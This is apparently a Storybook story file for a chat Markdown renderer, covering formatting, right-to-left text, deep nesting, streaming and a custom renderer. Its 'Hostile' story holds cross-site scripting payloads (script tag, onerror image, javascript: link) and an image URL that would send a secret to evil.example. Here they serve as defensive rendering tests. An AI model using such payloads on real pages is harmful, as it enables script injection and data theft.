import type { Meta, StoryObj } from '@storybook/react-vite'
import { Chat, PersonaChat } from 'personaflow/components'
import { createMarkdownReader, parseInline, type MarkdownInline } from 'personaflow/markdown'
import 'personaflow/styles.css'
import { useEffect, useState } from 'react'
import { expect, waitFor } from 'storybook/test'
import { flowOf, say, withFlow } from './withFlow.tsx'

/** The gallery of what a reply may be written in. */
const GALLERY = `# A short tour
A paragraph with **bold**, *italic*, ~~struck~~ and \`inline code\`, a [link](https://example.com/docs), a bare one
(https://example.com/a_(b)) and a mail address, ada@example.com.

## Lists
- First
- Second
  1. one
  2. two, with \`code\`
- [x] a task that is done
- [ ] one that isn't

> “A quote, over
> two lines.”

### Code
\`\`\`ts
// The sum of a list.
export function sum(values: readonly number[]): number {
  return values.reduce((total, value) => total + value, 0)
}
\`\`\`

| Persona | Works as | Since |
| :------ | :------: | ----: |
| Ada | tutor | 1843 |
| Bo | **cook** | 2019 |

---

![A chart](https://images.example/chart.png)

עברית, and English again; the direction is each block's own.`

const meta: Meta<typeof Chat.Markdown> = {
  title: 'Components/Chat.Markdown',
  tags: ['autodocs'],
  component: Chat.Markdown,
  args: { text: GALLERY },
  decorators: [
    (Story) => (
      <div data-pf="chat-root" style={{ padding: 24, maxWidth: 720, blockSize: 'auto' }}>
        <Story />
      </div>
    ),
  ],
}
export default meta

type Story = StoryObj<typeof meta>

export const Gallery: Story = {
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('link', { name: 'link example.com' })).toHaveAttribute(
      'rel',
      'noopener noreferrer nofollow',
    )
    await waitFor(() => expect(document.querySelector('[data-token="keyword"]')).toHaveTextContent('export'))
    await expect(document.querySelector('img')).toBeNull()
  },
}

export const RightToLeft: Story = {
  args: {
    text: '# שלום\nזה **מודגש** ויש גם `code`.\n\n- ראשון\n- שני\n\n| שם | עיר |\n|---|---|\n| עדה | לונדון |\n\n> ציטוט',
  },
  decorators: [(Story) => <div dir="rtl">{Story()}</div>],
}

/** What is written to break a page: all of it shows as text. */
export const Hostile: Story = {
  args: {
    text: '<script>alert(1)</script> <img src=x onerror=alert(1)>\n\n[bank.example](https://evil.example) [x](javascript:alert(1)) ![](https://evil.example/?d=SECRET)\n\nabc\u202Edef\u202C and \u{E0061}\u{E0062} tags',
  },
}

/** Deeper than anybody writes: from there on it shows as it is written. */
export const TooDeep: Story = { args: { text: `${'> '.repeat(60)}deep\n\n${'- '.repeat(60)}deeper` } }

export const Streaming: Story = {
  render: function Arriving({ text }) {
    const [length, setLength] = useState(0)
    useEffect(() => {
      const timer = setInterval(() => setLength((now) => Math.min(text.length, now + 4)), 16)
      return () => clearInterval(timer)
    }, [text])
    return <Chat.Markdown text={text.slice(0, length)} isStreaming={length < text.length} />
  },
}

const read = createMarkdownReader()

/** A drawing of an app's own: each block a line, and its emphasis in capitals. */
function Telegram({ text }: { text: string }) {
  const { entries, definitions } = read(text)
  return (
    <pre style={{ whiteSpace: 'pre-wrap' }}>
      {entries.map(({ block }) =>
        block.kind === 'paragraph' ? `${parseInline(block, definitions).map(wordsOf).join('')} STOP\n` : '',
      )}
    </pre>
  )
}

function wordsOf(piece: MarkdownInline): string {
  if (typeof piece === 'string') return piece
  return 'children' in piece ? piece.children.map(wordsOf).join('').toUpperCase() : ''
}

/** Another renderer in one line: here one that stands on `personaflow/markdown`. */
export const AnotherRenderer: Story = {
  loaders: [flowOf({ replies: ['Arrive **Tuesday**.\n\nBring *tea*.'] }, (flow) => say(flow, 'When do you come?'))],
  decorators: [withFlow],
  render: () => (
    <PersonaChat partRenderers={{ text: (part) => part.type === 'text' && <Telegram text={part.text} /> }} />
  ),
  play: async ({ canvas }) => {
    await waitFor(() => expect(canvas.getByText(/Arrive TUESDAY. STOP/)).toHaveTextContent('Bring TEA. STOP'))
  },
}
